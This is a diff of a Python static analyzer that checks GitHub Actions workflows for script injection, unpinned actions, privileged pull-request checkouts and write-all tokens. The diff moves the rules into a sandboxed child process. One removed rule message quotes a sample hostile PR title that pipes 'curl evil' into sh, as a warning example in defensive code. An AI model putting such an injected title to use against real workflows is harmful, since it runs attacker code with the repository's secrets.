@@ -1,273 +1,43 @@
 """The bot's own rules for GitHub Actions workflows and composite actions.
 
-Pure Python over the YAML node tree (``yaml.compose`` with the safe loader: nodes keep their
-line numbers and nothing is constructed), so nothing from the reviewed file is ever run.
+Pure Python over the YAML node tree (composed by ``analyzers.safe_yaml`` with the safe loader:
+nodes keep their line numbers, nothing is constructed, nesting and alias expansion are bounded),
+so nothing from the reviewed file is ever run. Like every other tool the rules run in a child
+process (``python -m analyzers.actions FILE...``, JSON out) under memory and CPU-time limits: a
+workflow built from aliases must not cost the bot's own memory, and a timeout cannot stop a thread.
 """
 
 from __future__ import annotations
 
-import asyncio
-import re
-from collections.abc import Iterator, Sequence
-from dataclasses import dataclass
+import json
+import sys
+from collections.abc import Sequence
+from dataclasses import dataclass, field
 from pathlib import Path, PurePosixPath
 
-import yaml
-from yaml.nodes import MappingNode, Node, ScalarNode, SequenceNode
-
-from analyzers.base import AnalyzerResult, Finding, Severity, checkable_files
-
-TOOL = "actions"
-RULESET_VERSION = "1.0.0"  # bump when a rule changes what it reports: it is part of the cache key
-MAX_BYTES = 1024 * 1024  # a workflow bigger than this is not something people write by hand
-DOCS = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
-
-
-@dataclass(frozen=True)
-class Rule:
-    id: str
-    severity: Severity
-    cwe: str
-    message: str
-    help_url: str = DOCS
-
-
-SCRIPT_INJECTION = Rule(
-    "actions-script-injection",
-    "error",
-    "CWE-78",
-    "`${{{{ {expr} }}}}` is pasted into the script before it runs, and whoever opens the issue, "
-    'pull request, comment or branch controls that text: a title like `a"; curl evil | sh; "` '
-    "runs their commands with this job's token and secrets. Pass it through `env:` (e.g. "
-    '`env: VALUE: ${{{{ {expr} }}}}`) and use it quoted as "$VALUE" (in github-script: '
-    "process.env.VALUE).",
-    DOCS + "#understanding-the-risk-of-script-injections",
+from analyzers.actions_rules import (
+    MAX_BYTES,
+    RULES,
+    TOOL,
+    check_context,
+    check_document,
+    is_pinned,
 )
-UNPINNED_ACTION = Rule(
-    "actions-unpinned-action",
-    "warning",
-    "CWE-829",
-    "`{uses}` is referenced by a tag or branch, which its owner (or whoever compromises that "
-    "repository) can move to different code at any time, and this workflow would run it with its "
-    "token and secrets. Pin it to a full 40-character commit SHA and keep the version in a "
-    "comment: `uses: {name}@<sha> # {ref}`.",
-    DOCS + "#using-third-party-actions",
+from analyzers.base import REPORT_ERRORS, AnalyzerResult, Finding, checkable_files
+from analyzers.batch import run_isolating
+from analyzers.limits import ResourceLimits
+from analyzers.process import describe_failure, minimal_env, run_bounded
+from analyzers.safe_yaml import YamlLimitError, YamlSyntaxError
+
+__all__ = ["ActionsAnalyzer", "check_document", "check_files", "is_pinned", "is_workflow", "main"]
+
+RULESET_VERSION = "1.1.0"  # bump when a rule changes what it reports: it is part of the cache key
+# Runs main() below from the bot's own installation: -I keeps the reviewed checkout (the working
+# directory) and PYTHON* variables off sys.path, so only the path given first is added.
+_CHILD = (
+    "import sys; sys.path.insert(0, sys.argv.pop(1)); from analyzers.actions import main; sys.exit(main())"
 )
-PR_TARGET_CHECKOUT = Rule(
-    "actions-pull-request-target-checkout",
-    "error",
-    "CWE-829",
-    "This workflow runs on `{trigger}`, with a write token and the repository's secrets, and "
-    "checks out the pull request's own code (`{value}`): any build, install or script from that "
-    "checkout runs code the PR author wrote with those privileges. Use the `pull_request` "
-    "trigger to build untrusted code, or check out the base branch only and treat the PR's "
-    "content as data.",
-    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
-)
-WRITE_ALL = Rule(
-    "actions-write-all-permissions",
-    "warning",
-    "CWE-250",
-    "`permissions: write-all` gives the GITHUB_TOKEN write access to everything (code, "
-    "releases, packages, other workflows), so one compromised step can push to the repository. "
-    "Grant only what the job needs, e.g. `permissions: {{contents: read}}`.",
-    "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
-    "controlling-permissions-for-github_token",
-)
-# The same rule inside actions/github-script: JavaScript rather than shell, so code injection.
-GITHUB_SCRIPT_INJECTION = Rule(
-    SCRIPT_INJECTION.id, "error", "CWE-94", SCRIPT_INJECTION.message, SCRIPT_INJECTION.help_url
-)
-RULES = (SCRIPT_INJECTION, UNPINNED_ACTION, PR_TARGET_CHECKOUT, WRITE_ALL)
-
-_EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
-_ANY = r"(?:\[\d+\]|\.\*|\[\*\])?"  # commits[0], commits.*, commits[*]
-# Contexts an outside user writes: from GitHub Security Lab's list, plus workflow_run's copies.
-_TAINTED = re.compile(
-    r"github\.head_ref"
-    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)"
-    r"|github\.event\.(?:comment|review|review_comment|discussion_comment)\.body"
-    rf"|github\.event\.pages{_ANY}\.page_name"
-    rf"|github\.event\.(?:commits{_ANY}|head_commit)\.(?:message|author\.(?:email|name))"
-    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
-    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))"
-    rf"|pull_requests{_ANY}\.head\.ref)"
-    r"|toJSON\(\s*github\.event\b[\w.]*\s*\)",  # the whole event, titles and bodies included
-    re.IGNORECASE,
-)
-_PR_HEAD = re.compile(
-    r"github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/"
-    r"|github\.event\.workflow_run\.(?:head_sha|head_branch|head_repository\.full_name)",
-    re.IGNORECASE,
-)
-_SHA = re.compile(r"[0-9a-f]{40}")
-PRIVILEGED_TRIGGERS = ("pull_request_target", "workflow_run")
-# GitHub's own actions may stay at a tag by default: if actions/* or github/* were compromised,
-# so would be the runners they run on, and pinning them adds churn for little gain. Set
-# pin_first_party=True for the stricter policy (OpenSSF Scorecard's).
-FIRST_PARTY_OWNERS = ("actions", "github")
-
-
-def child(node: Node | None, key: str) -> Node | None:
-    """The value under ``key`` in a mapping node (the last one, if duplicated), else None."""
-    if not isinstance(node, MappingNode):
-        return None
-    found = None
-    for k, v in node.value:
-        if isinstance(k, ScalarNode) and k.value == key:
-            found = v
-    return found
-
-
-def items(node: Node | None) -> list[Node]:
-    return list(node.value) if isinstance(node, SequenceNode) else []
-
-
-def values(node: Node | None) -> list[Node]:
-    return [v for _, v in node.value] if isinstance(node, MappingNode) else []
-
-
-def text(node: Node | None) -> str | None:
-    return node.value if isinstance(node, ScalarNode) else None
-
-
-def triggers(doc: Node) -> set[str]:
-    on = child(doc, "on")
-    if isinstance(on, ScalarNode):
-        return {on.value}
-    if isinstance(on, SequenceNode):
-        return {t for n in on.value if (t := text(n))}
-    if isinstance(on, MappingNode):
-        return {k.value for k, _ in on.value if isinstance(k, ScalarNode)}
-    return set()
-
-
-def steps_of(doc: Node) -> Iterator[Node]:
-    """Every step of every job, or of a composite action's ``runs``."""
-    yield from items(child(child(doc, "runs"), "steps"))
-    for job in values(child(doc, "jobs")):
-        yield from items(child(job, "steps"))
-
-
-@dataclass
-class _Context:
-    rel: str
-    source: str
-    findings: list[Finding]
-
-    def add(
-        self, rule: Rule, node: Node, message: str, *, line: int | None = None, column: int | None = None
-    ) -> None:
-        at = line if line is not None else node.start_mark.line + 1
-        self.findings.append(
-            Finding(
-                tool=TOOL,
-                rule_id=rule.id,
-                severity=rule.severity,
-                path=self.rel,
-                line=at,
-                end_line=at,
-                message=message,
-                column=column if column is not None else node.start_mark.column + 1,
-                help_url=rule.help_url,
-                cwe=rule.cwe,
-            )
-        )
-
-
-def check_injection(ctx: _Context, node: Node | None, rule: Rule) -> None:
-    """Flag each line of a script that expands an attacker-written context, at that exact line.
-
-    The raw source of the scalar is searched (not its parsed value), so the line inside a
-    ``run: |`` block is exact; only when the expression is folded across lines is the key's
-    line used instead.
-    """
-    if not isinstance(node, ScalarNode):
-        return
-    raw = ctx.source[node.start_mark.index : node.end_mark.index]
-    flagged: set[int] = set()
-    matches = [(m, m.group(1)) for m in _EXPR.finditer(raw) if _TAINTED.search(m.group(1))]
-    for match, expr in matches:
-        before = raw[: match.start()]
-        line = node.start_mark.line + 1 + before.count("\n")
-        if line in flagged:
-            continue
-        flagged.add(line)
-        column = (
-            match.start() - (before.rfind("\n") + 1) + 1 + (0 if "\n" in before else node.start_mark.column)
-        )
-        ctx.add(rule, node, rule.message.format(expr=" ".join(expr.split())), line=line, column=column)
-    if not matches:
-        for expr in _EXPR.findall(node.value):  # folded in the source: fall back to the key's line
-            if _TAINTED.search(expr):
-                ctx.add(rule, node, rule.message.format(expr=" ".join(expr.split())))
-                return
-
-
-def action_name(uses: str) -> str:
-    return uses.split("@", 1)[0].strip().lower()
-
-
-def check_step_injection(ctx: _Context, step: Node) -> None:
-    check_injection(ctx, child(step, "run"), SCRIPT_INJECTION)
-    if action_name(text(child(step, "uses")) or "") == "actions/github-script":
-        check_injection(ctx, child(child(step, "with"), "script"), GITHUB_SCRIPT_INJECTION)
-
-
-def is_pinned(uses: str, *, pin_first_party: bool) -> bool:
-    uses = uses.strip()
-    if uses.startswith("./"):
-        return True  # a local action comes from this very commit
-    if uses.startswith("docker://"):
-        return "@sha256:" in uses
-    name, _, ref = uses.partition("@")
-    if _SHA.fullmatch(ref):
-        return True
-    return not pin_first_party and bool(ref) and name.split("/", 1)[0].lower() in FIRST_PARTY_OWNERS
-
-
-def check_unpinned(ctx: _Context, node: Node | None, pin_first_party: bool) -> None:
-    uses = text(node)
-    if node is None or not uses or "${{" in uses or is_pinned(uses, pin_first_party=pin_first_party):
-        return
-    name, _, ref = uses.partition("@")
-    ctx.add(UNPINNED_ACTION, node, UNPINNED_ACTION.message.format(uses=uses, name=name, ref=ref or "vX"))
-
-
-def check_pr_target_checkout(ctx: _Context, doc: Node, step: Node) -> None:
-    trigger = next((t for t in PRIVILEGED_TRIGGERS if t in triggers(doc)), None)
-    if trigger is None or action_name(text(child(step, "uses")) or "") != "actions/checkout":
-        return
-    with_ = child(step, "with")
-    for key in ("ref", "repository"):
-        node = child(with_, key)
-        value = text(node)
-        if node is not None and value and _PR_HEAD.search(value):
-            ctx.add(PR_TARGET_CHECKOUT, node, PR_TARGET_CHECKOUT.message.format(trigger=trigger, value=value))
-            return
-
-
-def check_write_all(ctx: _Context, doc: Node) -> None:
-    for owner in (doc, *values(child(doc, "jobs"))):
-        node = child(owner, "permissions")
-        if text(node) == "write-all":
-            ctx.add(WRITE_ALL, node, WRITE_ALL.message)
-
-
-def check_document(rel: str, source: str, *, pin_first_party: bool = False) -> list[Finding]:
-    """All findings of the rules above in one workflow or action file's text."""
-    doc = yaml.compose(source, Loader=yaml.SafeLoader)
-    if not isinstance(doc, MappingNode):
-        return []
-    ctx = _Context(rel, source, [])
-    check_write_all(ctx, doc)
-    for job in values(child(doc, "jobs")):
-        check_unpinned(ctx, child(job, "uses"), pin_first_party)  # a reusable workflow
-    for step in steps_of(doc):
-        check_step_injection(ctx, step)
-        check_unpinned(ctx, child(step, "uses"), pin_first_party)
-        check_pr_target_checkout(ctx, doc, step)
-    return sorted(ctx.findings, key=lambda f: (f.line, f.rule_id))
+_PACKAGE_PARENT = str(Path(__file__).resolve().parent.parent)
 
 
 def is_workflow(path: str) -> bool:
@@ -276,13 +46,93 @@ def is_workflow(path: str) -> bool:
     return (in_workflows and pure.suffix in (".yml", ".yaml")) or pure.name in ("action.yml", "action.yaml")
 
 
+@dataclass
+class FileReport:
+    """What the rules found in a set of files, as the child process reports it."""
+
+    findings: list[Finding] = field(default_factory=list)
+    notices: list[str] = field(default_factory=list)
+    not_analyzed: dict[str, str] = field(default_factory=dict)
+    capped: list[str] = field(default_factory=list)
+
+
+def check_files(root: Path, files: Sequence[str], *, pin_first_party: bool = False) -> FileReport:
+    """The rules on each file (paths relative to ``root``); a file beyond a bound is named, not fatal."""
+    report = FileReport()
+    for rel in files:
+        try:
+            data = (root / rel).read_bytes()
+            if len(data) > MAX_BYTES:
+                report.not_analyzed[rel] = f"actions skipped it: larger than {MAX_BYTES:,} bytes"
+                continue
+            ctx = check_context(rel, data.decode("utf-8"), pin_first_party)
+        except YamlSyntaxError as exc:
+            # yamllint reports the syntax error itself; this only says why the rules did not run.
+            report.notices.append(f"actions could not read {rel}: {exc}")
+            continue
+        except YamlLimitError as exc:
+            report.not_analyzed[rel] = f"actions did not read it: {exc}"
+            continue
+        except (OSError, UnicodeDecodeError) as exc:
+            report.notices.append(f"actions could not read {rel}: {type(exc).__name__}")
+            continue
+        report.findings += ctx.findings
+        if ctx.dropped:
+            report.capped.append(
+                f"actions reported more than {ctx.max_findings} findings in {rel!r}; only the first "
+                f"{ctx.max_findings} are kept"
+            )
+    return report
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    """``python -m analyzers.actions [--pin-first-party] -- FILE...``: a JSON report on stdout.
+
+    Run by ActionsAnalyzer in a child process with the checkout as working directory.
+    """
+    args = list(sys.argv[1:] if argv is None else argv)
+    split = args.index("--") if "--" in args else 0
+    options, names = args[:split], args[split + 1 if "--" in args else 0 :]
+    files = [name.removeprefix("./") for name in names]
+    report = check_files(Path.cwd(), files, pin_first_party="--pin-first-party" in options)
+    json.dump(
+        {
+            "findings": [f.to_dict() for f in report.findings],
+            "notices": report.notices,
+            "not_analyzed": report.not_analyzed,
+            "capped": report.capped,
+        },
+        sys.stdout,
+    )
+    return 0
+
+
+def parse_report(stdout: bytes, files: Sequence[str]) -> AnalyzerResult:
+    """The child's JSON report as a result; anything about a file it was not given is dropped."""
+    data = json.loads(stdout.decode("utf-8"))
+    given = set(files)
+    findings = [Finding.from_dict(item) for item in data["findings"]]
+    for finding in findings:
+        if finding.tool != TOOL or finding.severity not in ("error", "warning", "note"):
+            raise ValueError("not a finding of the actions rules")
+    return AnalyzerResult(
+        tool=TOOL,
+        version=RULESET_VERSION,
+        findings=[f for f in findings if f.path in given],
+        notices=[str(n) for n in data["notices"]],
+        not_analyzed={str(k): str(v) for k, v in data["not_analyzed"].items() if k in given},
+        capped=[str(c) for c in data["capped"]],
+    )
+
+
 class ActionsAnalyzer:
     """Checks workflows and composite actions for script injection, unpinned actions and more."""
 
     name = TOOL
 
-    def __init__(self, *, pin_first_party: bool = False) -> None:
+    def __init__(self, *, pin_first_party: bool = False, limits: ResourceLimits | None = None) -> None:
         self.pin_first_party = pin_first_party
+        self.limits = limits or ResourceLimits()
 
     def handles(self, path: str) -> bool:
         return is_workflow(path)
@@ -293,32 +143,32 @@ class ActionsAnalyzer:
     async def version(self) -> str | None:
         return RULESET_VERSION
 
-    def check_files(self, root: Path, files: Sequence[str]) -> tuple[list[Finding], list[str]]:
-        findings: list[Finding] = []
-        notices: list[str] = []
-        for rel in files:
-            try:
-                data = (root / rel).read_bytes()
-                if len(data) > MAX_BYTES:
-                    notices.append(f"actions skipped {rel}: larger than {MAX_BYTES} bytes")
-                    continue
-                findings += check_document(rel, data.decode("utf-8"), pin_first_party=self.pin_first_party)
-            except (OSError, UnicodeDecodeError, yaml.YAMLError) as exc:
-                # yamllint reports the syntax error itself; this only says why the rules did not run.
-                notices.append(f"actions could not read {rel}: {type(exc).__name__}")
-        return findings, notices
+    def command(self, paths: Sequence[str]) -> list[str]:
+        options = ["--pin-first-party"] if self.pin_first_party else []
+        argv = [sys.executable, "-I", "-c", _CHILD, _PACKAGE_PARENT, *options]
+        return [*argv, "--", *(f"./{p}" for p in paths)]
 
     async def run(self, root: Path, paths: Sequence[str], *, timeout: float) -> AnalyzerResult:
         files = checkable_files(root, paths)
         if not files:
             return AnalyzerResult(tool=TOOL, version=RULESET_VERSION)
-        try:
-            # In a thread: parsing is CPU work and must not stall the event loop.
-            findings, notices = await asyncio.wait_for(
-                asyncio.to_thread(self.check_files, root, files), timeout
+
+        async def once(batch: list[str], budget: float) -> AnalyzerResult:
+            limits = self.limits.with_cpu_at_most(budget)
+            run = await run_bounded(
+                self.command(batch), cwd=root, timeout=budget, env=minimal_env(), limits=limits
             )
-        except TimeoutError:
-            return AnalyzerResult(
-                tool=TOOL, version=RULESET_VERSION, error=f"{TOOL} timed out after {timeout:g} s"
-            )
-        return AnalyzerResult(tool=TOOL, findings=findings, version=RULESET_VERSION, notices=notices)
+            failure = describe_failure(TOOL, run, budget, ok_codes=(0,), needs_report=True)
+            if failure:
+                return AnalyzerResult(tool=TOOL, version=RULESET_VERSION, error=failure)
+            try:
+                return parse_report(run.stdout, batch)
+            except REPORT_ERRORS as exc:
+                error = f"{TOOL}'s report was unreadable: {type(exc).__name__}"
+                return AnalyzerResult(tool=TOOL, version=RULESET_VERSION, error=error)
+
+        return await run_isolating(TOOL, files, once, timeout=timeout)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
